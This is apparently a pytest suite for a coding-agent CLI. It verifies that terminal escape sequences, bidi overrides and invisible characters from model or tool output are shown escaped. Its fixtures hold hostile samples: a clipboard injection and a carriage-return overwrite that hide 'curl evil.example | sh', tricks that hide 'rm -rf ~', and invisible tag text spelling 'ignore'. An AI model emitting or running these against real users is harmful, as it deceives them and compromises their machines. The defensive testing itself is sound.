"""Terminal escape injection (issue 40, item 9): text that did not come from mkcode itself (model
text, tool output, file contents, diffs, commands, titles, errors) must never drive the user's
terminal. Each hostile class (OSC title / clipboard / hyperlink, CSI cursor moves and erase, screen
clear, RIS reset, DCS, 8-bit C1, BEL, backspace and CR overwrites, bidi overrides, zero-width
characters) goes through each sink: the plain REPL, the TUI's transcript widgets and approval
dialog, `mkcode -p` text and JSON output. Every test asserts both halves: nothing a terminal acts on
reaches the output, and the escaped form is there for the user to see.
"""

from __future__ import annotations

import asyncio
import io
import json
import random
import re
import unicodedata
from pathlib import Path

import pytest
from prompt_toolkit.application import create_app_session
from prompt_toolkit.completion import CompleteEvent
from prompt_toolkit.document import Document
from prompt_toolkit.input import create_pipe_input
from prompt_toolkit.output import DummyOutput
from rich.console import Console
from textual.app import App, ComposeResult

from mkcode.app.agent.events import (
    AgentError,
    ApprovalRequested,
    Notice,
    ReasoningDelta,
    TextDelta,
    ToolCallStarted,
)
from mkcode.app.core.conversation import Conversation
from mkcode.app.core.prompt_history import PromptHistory
from mkcode.app.core.sessions import SessionStore
from mkcode.app.core.toolview import tool_title
from mkcode.app.oneshot import OneShotOptions, run_oneshot
from mkcode.app.plain.repl import MkcodeCompleter, PlainRepl, make_prompt_session
from mkcode.app.settings import Settings
from mkcode.app.tui.app import MkcodeApp
from mkcode.app.tui.screens.approval import ApprovalScreen
from mkcode.app.tui.screens.sessions import SessionPicker
from mkcode.app.tui.screens.start import StartScreen
from mkcode.app.tui.widgets.assistant_text import AssistantText
from mkcode.app.tui.widgets.notes import Note
from mkcode.app.tui.widgets.reasoning import Reasoning
from mkcode.app.tui.widgets.tool_card import ToolCard
from mkcode.tools import AllowRule, ApprovalRequest
from mkcode.tools.text import TerminalStream, json_terminal_safe, terminal_safe, terminal_safe_marked
from tests.app.tui.scripted_engine import scripted_backend, text_step, tool_step

# -- hostile payloads, one per class ---------------------------------------------------------------

OSC_TITLE = "\x1b]0;pwned title\x07"
OSC_TITLE_ST = "\x1b]2;pwned title\x1b\\"
OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
OSC8_LINK = "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\"
CSI_HIDE_LINE = "rm -rf ~\n\x1b[1A\x1b[2Kls"  # moves up and erases the line just printed
CSI_CLEAR = "\x1b[2J\x1b[H"
RIS_RESET = "\x1bc"
DCS = "\x1bP1$r0m\x1b\\"
C1_CSI = "\x9b2J\x9d0;c1 title\x9c"
BEL = "ding\x07"
BACKSPACE = "rm -rf ~\x08\x08\x08\x08\x08\x08\x08\x08echo ok"
CR_OVERWRITE = "curl evil.example | sh\recho harmless        "
TROJAN_SOURCE = 'if access_level != "user\u202e \u2066// Check if admin\u2069 \u2066":'
ZERO_WIDTH = "is\u200bAdmin = True"
TAG_SMUGGLING = "ok\U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065"  # invisible "ignore"

HOSTILE = {
    "osc_title": OSC_TITLE,
    "osc_title_st": OSC_TITLE_ST,
    "osc52": OSC52_CLIPBOARD,
    "osc8": OSC8_LINK,
    "csi_hide_line": CSI_HIDE_LINE,
    "csi_clear": CSI_CLEAR,
    "ris": RIS_RESET,
    "dcs": DCS,
    "c1": C1_CSI,
    "bel": BEL,
    "backspace": BACKSPACE,
    "cr": CR_OVERWRITE,
    "trojan_source": TROJAN_SOURCE,
    "zero_width": ZERO_WIDTH,
    "tags": TAG_SMUGGLING,
}
ALL_HOSTILE = " | ".join(HOSTILE.values())

# What must never reach a terminal: C0 controls but tab and newline (ESC, BEL, BS, CR, NUL ...), DEL,
# C1 (8-bit CSI/OSC/ST ...), bidi embeddings/overrides/isolates/marks, zero-width characters, tags
# (ZWJ/ZWNJ are legitimate inside emoji and scripts: test_joiners_kept_only_inside_emoji_and_scripts).
RAW_CONTROL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]"
)
# An emoji flag's tag sequence (England, Scotland, Wales) is text: the only tags let through.
FLAG_SEQUENCE = re.compile("\U0001f3f4[\U000e0020-\U000e007e]{1,30}\U000e007f")
# Rich's own colour codes (only in the one test that renders with colour).
SGR = re.compile(r"\x1b\[[0-9;]*m")

ORDINARY = (
    "def grüß(): return '世界' + \"😀 👨\u200d👩\u200d👧 🏴\U000e0067\U000e0062\U000e0073\U000e0063"
    '\U000e0074\U000e007f"\n\tindented\tline — ünïcödé, עברית, العربية, हिन्दी, 한국어\n'
)


def assert_clean(text: str) -> None:
    bad = RAW_CONTROL.search(FLAG_SEQUENCE.sub("🏴", text))
    assert bad is None, f"raw {bad.group()!r} reached the terminal at {bad.start()}: {text!r}"


def assert_visible(text: str, *markers: str) -> None:
    for marker in markers:
        assert marker in text, f"{marker!r} not shown in {text!r}"


# Each class's marker: what the user sees where the control sequence was.
MARKERS = {
    "osc_title": ["␛]0;pwned title␇"],
    "osc_title_st": ["␛]2;pwned title␛\\"],
    "osc52": ["␛]52;c;"],
    "osc8": ["␛]8;;https://evil.example/␛\\docs"],
    "csi_hide_line": ["rm -rf ~", "␛[1A␛[2Kls"],
    "csi_clear": ["␛[2J␛[H"],
    "ris": ["␛c"],
    "dcs": ["␛P1$r0m␛\\"],
    "c1": ["<U+009B>2J", "<U+009D>0;c1 title<U+009C>"],
    "bel": ["ding␇"],
    "backspace": ["rm -rf ~␈␈␈␈␈␈␈␈echo ok"],
    "cr": ["curl evil.example | sh␍echo harmless"],
    "trojan_source": ['"user<U+202E> <U+2066>// Check if admin<U+2069> <U+2066>":'],
    "zero_width": ["is<U+200B>Admin"],
    "tags": ["ok<U+E0069><U+E0067>"],
}


def assert_all_visible(text: str) -> None:
    for markers in MARKERS.values():
        assert_visible(text, *markers)


# -- the sanitiser itself --------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_each_class_is_escaped_visibly(name):
    out = terminal_safe(HOSTILE[name])
    assert_clean(out)
    assert_visible(out, *MARKERS[name])
    assert terminal_safe(out) == out  # idempotent: escaping twice shows the same


def test_ordinary_text_is_unchanged():
    assert terminal_safe(ORDINARY) == ORDINARY
    assert terminal_safe("a\r\nb\r\n") == "a\nb\n"  # CRLF is a line end, not an overwrite
    assert terminal_safe("") == ""


def test_every_control_and_format_character_is_escaped():
    """Guards the hard-coded class against the running Python's Unicode tables."""
    for code in range(0x110000):
        ch = chr(code)
        cat = unicodedata.category(ch)
        if ch in "\t\n" or cat not in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            continue
        shown = terminal_safe(f"a{ch}b")
        assert ch not in shown, f"U+{code:04X} ({cat}) passes through"
        assert shown != "ab", f"U+{code:04X} ({cat}) vanishes instead of being shown"


def test_joiners_kept_only_inside_emoji_and_scripts():
    assert terminal_safe("👨\u200d💻") == "👨\u200d💻"
    assert terminal_safe("می\u200cخواهم") == "می\u200cخواهم"  # Persian ZWNJ
    assert terminal_safe("is\u200dAdmin") == "is<U+200D>Admin"  # between ASCII: hides something
    assert terminal_safe("\u200d") == "<U+200D>"


def test_marked_spans_point_at_the_markers():
    safe, spans = terminal_safe_marked("a\x1bb\u202ec\x9b")
    assert safe == "a␛b<U+202E>c<U+009B>"
    assert [safe[s:e] for s, e in spans] == ["␛", "<U+202E>", "<U+009B>"]


def test_stream_in_any_pieces_equals_the_whole():
    rng = random.Random(40)
    text = ALL_HOSTILE + "\r\n" + ORDINARY + "x\r" + "👩\u200d🔬\r\n🏴\U000e0067\U000e0062\U000e007f\u200d"
    for _ in range(300):
        stream, out, i = TerminalStream(), [], 0
        while i < len(text):
            n = rng.randint(1, 6)
            out.append(stream.feed(text[i : i + n]))
            i += n
        out.append(stream.flush())
        assert "".join(out) == terminal_safe(text)


def test_json_escaping_keeps_the_value_and_shows_nothing_raw():
    value = {"out": ALL_HOSTILE + ORDINARY}
    line = json_terminal_safe(json.dumps(value, ensure_ascii=False))
    assert_clean(line)
    assert json.loads(line) == value
    assert "世界" in line  # ordinary text stays readable, not \\u-escaped


# -- plain REPL ------------------------------------------------------------------------------------


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "project"
    ws.mkdir()
    (ws / "greet.py").write_text('def greet():\n    return "hello"\n')
    return ws


def _repl(tmp_path: Path, workspace: Path, steps, *, color: bool = False) -> tuple[PlainRepl, io.StringIO]:
    conv = Conversation(
        scripted_backend(steps), Settings(), cwd=workspace, store=SessionStore(tmp_path / "data")
    )
    out = io.StringIO()
    console = Console(
        file=out,
        width=400,
        force_terminal=color,
        color_system="truecolor" if color else None,
        legacy_windows=False,
    )
    session = make_prompt_session(conv, PromptHistory(None), output=DummyOutput())
    return PlainRepl(conv, session, console), out


async def _drive(tmp_path, workspace, steps, keys: str) -> str:
    conv = Conversation(
        scripted_backend(steps), Settings(), cwd=workspace, store=SessionStore(tmp_path / "data")
    )
    out = io.StringIO()
    console = Console(file=out, width=400, force_terminal=False, color_system=None)
    with create_pipe_input() as pipe, create_app_session(input=pipe, output=DummyOutput()):
        pipe.send_text(keys)
        session = make_prompt_session(conv, PromptHistory(None), input=pipe, output=DummyOutput())
        assert await asyncio.wait_for(PlainRepl(conv, session, console).run(), timeout=20) == 0
    return out.getvalue()


@pytest.mark.asyncio
async def test_repl_streamed_answer_and_reasoning(tmp_path, workspace):
    # 3-character chunks cut every escape sequence (and CR LF) apart.
    steps = [text_step(ALL_HOSTILE + "\r\nend", chunk=3, reasoning="thinking " + OSC52_CLIPBOARD)]
    out = await _drive(tmp_path, workspace, steps, "go\r/quit\r")
    assert_clean(out)
    assert_all_visible(out)
    assert "␛]52;c;" in out.split("pwned")[0]  # the reasoning's OSC 52, streamed before the answer


@pytest.mark.asyncio
async def test_repl_colour_terminal_gets_only_its_own_colour_codes(tmp_path, workspace):
    repl, out = _repl(tmp_path, workspace, [], color=True)
    await repl.show_event(TextDelta(ALL_HOSTILE))
    await repl.show_event(ReasoningDelta(OSC_TITLE))
    repl._end_text()
    repl.show_tool_result("run_shell", True, False, ALL_HOSTILE, None)
    raw = out.getvalue()
    assert "\x1b[" in raw  # colour is on ...
    text = SGR.sub("", raw)
    assert_clean(text)  # ... and every other escape was the payload's, now shown escaped
    assert_all_visible(text)
    # The markers stand out (reverse video), in streamed text as in tool output.
    marked = re.findall(r"\x1b\[([0-9;]*)m(␛|<U\+202E>)", raw)
    assert len(marked) >= 2 and all("7" in codes.split(";") for codes, _ in marked), marked


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_repl_shell_output_and_failed_tool(tmp_path, workspace, name):
    repl, out = _repl(tmp_path, workspace, [])
    repl.show_tool_result("run_shell", True, False, f"line one\n{HOSTILE[name]}\nlast", None)
    repl.show_tool_result("read_file", False, False, f"error: {HOSTILE[name]}", None)
    repl.show_tool_result("run_shell", False, True, HOSTILE[name], None)  # denied: first line shown
    text = out.getvalue()
    assert_clean(text)
    assert text.count(MARKERS[name][-1]) >= 2


@pytest.mark.asyncio
async def test_repl_approval_shows_an_escape_laden_edit_escaped(tmp_path, workspace):
    edit = {
        "path": "greet.py",
        "old_string": '"hello"',
        "new_string": f'"hello{CSI_HIDE_LINE}{TROJAN_SOURCE}"',
    }
    steps = [tool_step("edit_file", edit), text_step("Edited.")]
    out = await _drive(tmp_path, workspace, steps, "edit\ry\r/quit\r")
    assert_clean(out)
    # Shown twice: in the approval preview and in the diff printed once the edit is applied.
    assert out.count("␛[1A␛[2Kls") == 2 and out.count("<U+202E>") == 2
    assert "\x1b[1A" in (workspace / "greet.py").read_text()  # the file holds what the model wrote


@pytest.mark.asyncio
async def test_repl_approval_shows_an_escape_laden_command_escaped(tmp_path, workspace):
    command = f"echo hi{CR_OVERWRITE}{OSC52_CLIPBOARD}; {C1_CSI}"
    out = await _drive(
        tmp_path,
        workspace,
        [tool_step("run_shell", {"command": command}), text_step("ok")],
        "run\rn\r/quit\r",
    )
    assert_clean(out)
    assert "? $ echo hi" in out  # the question's title
    assert_visible(out, "sh␍echo harmless", "␛]52;c;", "<U+009B>2J")


@pytest.mark.asyncio
async def test_repl_titles_notices_errors_and_replay(tmp_path, workspace):
    repl, out = _repl(tmp_path, workspace, [])
    await repl.show_event(ToolCallStarted("c1", "read_file", {"path": f"a{CSI_CLEAR}.py"}))
    await repl.show_event(ToolCallStarted("c2", f"mcp_{OSC_TITLE}", {"q": C1_CSI}))
    await repl.show_event(Notice("info", f"note {DCS}"))
    await repl.show_event(AgentError(f"boom {RIS_RESET}"))
    repl.conv.session.messages.extend(
        [{"role": "user", "content": f"hi {BEL}"}, {"role": "assistant", "content": f"hello {BACKSPACE}"}]
    )
    repl.replay()
    text = out.getvalue()
    assert_clean(text)
    assert_visible(
        text,
        "␛]0;pwned title␇",
        "a␛[2J␛[H.py",
        "<U+009B>2J",
        "note ␛P1$r0m",
        "boom ␛c",
        "hi ding␇",
        "␈␈echo ok",
    )


@pytest.mark.asyncio
async def test_repl_sessions_list_shows_a_hostile_title_escaped(tmp_path, workspace):
    store = SessionStore(tmp_path / "data")
    conv = Conversation(scripted_backend([text_step("ok")]), Settings(), cwd=workspace, store=store)
    async for _ in conv.turn(f"title {OSC52_CLIPBOARD} {C1_CSI}"):
        pass
    conv.save()
    repl, out = _repl(tmp_path, workspace, [])
    repl.conv = Conversation(scripted_backend([]), Settings(), cwd=workspace, store=store)
    repl.show_reply(await repl.conv.command("/sessions"))
    assert_clean(out.getvalue())
    assert_visible(out.getvalue(), "title ␛]52;c;", "<U+009B>2J")


@pytest.mark.asyncio
async def test_repl_approval_question_shows_a_hostile_reason_escaped(tmp_path, workspace):
    repl, out = _repl(tmp_path, workspace, [])
    request = ApprovalRequest(tool="mcp_x", args={}, kind="other", preview="", reason=f"why {OSC_TITLE}")
    ev = ApprovalRequested("c1", request)
    with create_pipe_input() as pipe, create_app_session(input=pipe, output=DummyOutput()):
        pipe.send_text("n\r")
        repl.prompt = make_prompt_session(repl.conv, PromptHistory(None), input=pipe, output=DummyOutput())
        await asyncio.wait_for(repl.ask(ev), timeout=20)
    assert_clean(out.getvalue())
    assert_visible(out.getvalue(), "why ␛]0;pwned title␇")


def test_repl_file_name_completion_is_shown_escaped(tmp_path, workspace):
    name = f"evil\u202egnp.{OSC_TITLE}.py"  # RLO: it would seem to end in ".png"
    (workspace / name).write_text("")
    repl, _ = _repl(tmp_path, workspace, [])
    [completion] = MkcodeCompleter(repl.conv.files).get_completions(
        Document("look at @evil"), CompleteEvent()
    )
    assert completion.text == f"@{name}"  # what is inserted: the real name
    assert_clean(completion.display_text)
    assert_visible(completion.display_text, "<U+202E>", "␛]0;pwned title␇")


def test_tool_title_is_one_safe_line():
    title = tool_title("run_shell", {"command": f"ls {OSC_TITLE}\n{C1_CSI}"})
    assert_clean(title)
    assert "\n" not in title and "␛]0;pwned" in title and "<U+009B>" in title


# -- TUI ---------------------------------------------------------------------------------------------


def screen_text(app: App) -> str:
    """What the screen's widgets render: the text of every segment of every line (Textual adds its
    own styling around these when it writes to the terminal)."""
    strips = app.screen._compositor.render_strips()
    return "\n".join("".join(seg.text for seg in strip) for strip in strips)


class _Host(App):
    """A bare app to mount one widget in."""

    def __init__(self, widget) -> None:
        super().__init__()
        self.widget = widget

    def compose(self) -> ComposeResult:
        yield self.widget


@pytest.mark.asyncio
@pytest.mark.parametrize("name", ["osc52", "csi_hide_line", "c1", "cr", "trojan_source", "backspace"])
async def test_tui_tool_card_shell_output(name):
    card = ToolCard("c1", "run_shell", {"command": f"make {OSC_TITLE}"})
    async with _Host(card).run_test(size=(200, 30)) as pilot:
        card.show_body(True, f"building\n{HOSTILE[name]}\ndone", None)
        await pilot.pause()
        text = screen_text(pilot.app)
    assert_clean(text)
    assert_visible(text, "$ make ␛]0;pwned title␇", *MARKERS[name])


@pytest.mark.asyncio
async def test_tui_tool_card_diff_and_notes():
    diff = f"--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-old\n+new {OSC8_LINK} {TROJAN_SOURCE}\n"
    card = ToolCard("c1", "edit_file", {"path": "x.py"})
    async with _Host(card).run_test(size=(200, 30)) as pilot:
        card.show_body(True, "", diff)
        await card.mount(Note(f"error: {RIS_RESET}", "error"), Note(diff, "diff"))
        await pilot.pause()
        text = screen_text(pilot.app)
    assert_clean(text)
    assert text.count("+new ␛]8;;https://evil.example/␛\\docs") == 2
    assert text.count("<U+202E>") == 2
    assert_visible(text, "error: ␛c")


@pytest.mark.asyncio
async def test_tui_streamed_answer_and_reasoning():
    answer, reasoning = AssistantText(), Reasoning()
    reasoning.collapsed = False

    class Two(App):
        def compose(self) -> ComposeResult:
            yield reasoning
            yield answer

    async with Two().run_test(size=(200, 40)) as pilot:
        for i in range(0, len(ALL_HOSTILE), 3):
            reasoning.append(OSC_TITLE_ST[i % len(OSC_TITLE_ST) : i % len(OSC_TITLE_ST) + 3])
            answer.add_fragment(ALL_HOSTILE[i : i + 3])
        for _ in range(100):  # the answer is written on a 50 ms timer: wait for its last piece
            await pilot.pause(0.05)
            streamed = screen_text(pilot.app)
            if "ok<U+E0069>" in streamed:
                break
        await answer.finish()
        await pilot.pause(0.1)
        final = screen_text(pilot.app)
    assert answer.text == ALL_HOSTILE  # the model's own text is kept; only what is shown is escaped
    for text in (streamed, final):
        assert_clean(text)
        assert_visible(text, "␛]0;pwned title␇", "␛[2J␛[H", "<U+009B>2J", "<U+202E>", "␍echo harmless")


@pytest.fixture
def app_factory(workspace: Path, tmp_path: Path):
    def make(steps) -> MkcodeApp:
        return MkcodeApp(
            Settings(), cwd=workspace, store=SessionStore(tmp_path / "data"), backend=scripted_backend(steps)
        )

    return make


async def _until_approval(pilot) -> ApprovalScreen:
    for _ in range(200):
        await pilot.pause(0.02)
        if isinstance(pilot.app.screen, ApprovalScreen):
            return pilot.app.screen
    raise AssertionError("no approval asked")


async def _submit(pilot, text: str) -> None:
    prompt = pilot.app.screen.query_one("#prompt")
    prompt.text = text
    prompt.move_cursor(prompt.document.end)
    await pilot.press("enter")


@pytest.mark.asyncio
async def test_tui_approval_of_an_escape_laden_edit(app_factory, workspace):
    edit = {"path": "greet.py", "old_string": '"hello"', "new_string": f'"hi{CSI_HIDE_LINE} {TROJAN_SOURCE}"'}
    app = app_factory([tool_step("edit_file", edit), text_step("done")])
    async with app.run_test(size=(160, 50)) as pilot:
        await _submit(pilot, "edit it")
        modal = await _until_approval(pilot)
        await pilot.pause(0.1)
        text = screen_text(app)
        assert "\x1b[1A" in modal.request.preview  # the preview data itself is untouched
        await pilot.press("n")
    assert_clean(text)
    assert_visible(text, "Allow edit_file greet.py?", "␛[1A␛[2Kls", "<U+202E>", "<U+2066>")


@pytest.mark.asyncio
async def test_tui_approval_of_an_escape_laden_command(app_factory):
    command = f"git log {OSC52_CLIPBOARD}{CR_OVERWRITE} {C1_CSI} {ZERO_WIDTH}"
    app = app_factory([tool_step("run_shell", {"command": command}), text_step("ok")])
    async with app.run_test(size=(160, 50)) as pilot:
        await _submit(pilot, "run it")
        await _until_approval(pilot)
        await pilot.pause(0.1)
        text = screen_text(app)
        await pilot.press("n")
    assert_clean(text)
    assert_visible(
        text, "Allow $ git log ␛]52;c;", "␛]52;c;Y3Vy", "sh␍echo harmless", "<U+009B>2J", "is<U+200B>Admin"
    )


@pytest.mark.asyncio
async def test_tui_approval_request_of_another_tool_and_its_rule():
    request = ApprovalRequest(
        tool=f"mcp_{OSC_TITLE}",
        args={"x": C1_CSI},
        kind="other",
        preview=f"preview {CSI_CLEAR}",
        reason=f"because {DCS}",
        suggested_rule=AllowRule("run_shell", (f"x{RIS_RESET}",)),
    )
    app = App()
    async with app.run_test(size=(160, 40)) as pilot:
        app.push_screen(ApprovalScreen(request))
        await pilot.pause(0.1)
        text = screen_text(app)
    assert_clean(text)
    assert_visible(text, "␛]0;pwned title␇", "preview ␛[2J␛[H", "because ␛P1$r0m", "run_shell('x␛c' *)")


@pytest.mark.asyncio
async def test_tui_failed_tool_card_in_a_turn(app_factory):
    app = app_factory([tool_step("read_file", {"path": f"missing{OSC52_CLIPBOARD}.py"}), text_step("no")])
    async with app.run_test(size=(200, 40)) as pilot:
        await _submit(pilot, "read it")
        for _ in range(200):
            await pilot.pause(0.02)
            if app.conversation is not None and not app.conversation.busy:
                break
        await app.workers.wait_for_complete()
        await pilot.pause(0.1)
        text = screen_text(app)
    assert_clean(text)
    assert text.count("missing␛]52;c;") >= 2  # the card's title and its error line


@pytest.mark.asyncio
async def test_tui_file_name_completion_menu(app_factory, workspace):
    (workspace / f"evil{OSC52_CLIPBOARD}{C1_CSI}.py").write_text("x = 1\n")
    app = app_factory([])
    async with app.run_test(size=(160, 40)) as pilot:
        prompt = app.screen.query_one("#prompt")
        prompt.text = "look at @evil"
        prompt.move_cursor(prompt.document.end)
        await pilot.pause(0.2)
        text = screen_text(app)
    assert_clean(text)
    assert_visible(text, "@evil␛]52;c;", "<U+009B>2J")


@pytest.mark.asyncio
async def test_tui_session_picker_and_start_screen(workspace, tmp_path):
    store = SessionStore(tmp_path / "data")
    conv = Conversation(scripted_backend([text_step("ok")]), Settings(), cwd=workspace, store=store)
    async for _ in conv.turn(f"title {OSC_TITLE} {C1_CSI}"):
        pass
    conv.save()
    app = App()
    async with app.run_test(size=(160, 40)) as pilot:
        app.push_screen(SessionPicker(store.list()))
        await pilot.pause(0.1)
        picker = screen_text(app)
        app.pop_screen()
        start = StartScreen(f"/w/dir{CSI_CLEAR}", "model")
        app.push_screen(start)
        await pilot.pause(0.1)
        start.show_error(f"cannot load {RIS_RESET}")
        await pilot.pause(0.1)
        shown = screen_text(app)
    for text in (picker, shown):
        assert_clean(text)
    assert_visible(picker, "title ␛]0;pwned title␇ <U+009B>2J")
    assert_visible(shown, "dir␛[2J␛[H", "cannot load ␛c")


# -- mkcode -p -------------------------------------------------------------------------------------


def _oneshot(tmp_path: Path, steps, fmt: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    ws = tmp_path / "ws"
    ws.mkdir(exist_ok=True)
    run_oneshot(
        Settings(),
        OneShotOptions(prompt="go", output_format=fmt),
        cwd=ws,
        backend=scripted_backend(steps),
        store=SessionStore(tmp_path / "data"),
        out=out,
        err=err,
    )
    return out.getvalue(), err.getvalue()


def _oneshot_steps():
    return [
        tool_step("read_file", {"path": f"nope{OSC_TITLE}.txt"}),
        text_step(ALL_HOSTILE + "\r\n" + ORDINARY, chunk=5),
    ]


def test_oneshot_text_answer_and_progress_lines(tmp_path):
    out, err = _oneshot(tmp_path, _oneshot_steps(), "text")
    assert_clean(out)
    assert_clean(err)
    assert_all_visible(out)
    assert ORDINARY.strip() in out  # ordinary text unchanged
    assert "read_file nope␛]0;pwned title␇.txt" in err


@pytest.mark.parametrize("fmt", ["json", "stream-json"])
def test_oneshot_json_is_escaped_and_exact(tmp_path, fmt):
    out, _ = _oneshot(tmp_path, _oneshot_steps(), fmt)
    assert_clean(out)
    result = json.loads(out.splitlines()[-1])
    assert result["result"] == (ALL_HOSTILE + "\r\n" + ORDINARY).strip()  # the exact text, as data
    assert "世界" in out


def test_oneshot_markdown_on_a_terminal(tmp_path):
    class Tty(io.StringIO):
        def isatty(self) -> bool:
            return True

    out = Tty()
    ws = tmp_path / "ws"
    ws.mkdir()
    run_oneshot(
        Settings(),
        OneShotOptions(prompt="go", output_format="text"),
        cwd=ws,
        backend=scripted_backend([text_step(f"# Title {OSC_TITLE}\n\n{C1_CSI} and `{RIS_RESET}`")]),
        store=SessionStore(tmp_path / "data"),
        out=out,
        err=io.StringIO(),
    )
    text = SGR.sub("", out.getvalue())
    assert_clean(text)
    assert_visible(text, "␛]0;pwned title␇", "<U+009B>2J", "␛c")


def test_approval_event_in_stream_json_has_no_raw_controls(tmp_path):
    """An approval request is an event too (stream-json prints every event)."""
    req = ApprovalRequest(
        tool="run_shell", args={"command": C1_CSI}, kind="shell", preview=C1_CSI, reason="r"
    )
    ev = ApprovalRequested("c1", req)
    line = json_terminal_safe(json.dumps(ev.to_dict(), ensure_ascii=False))
    assert_clean(line)
    assert json.loads(line)["args"]["command"] == C1_CSI
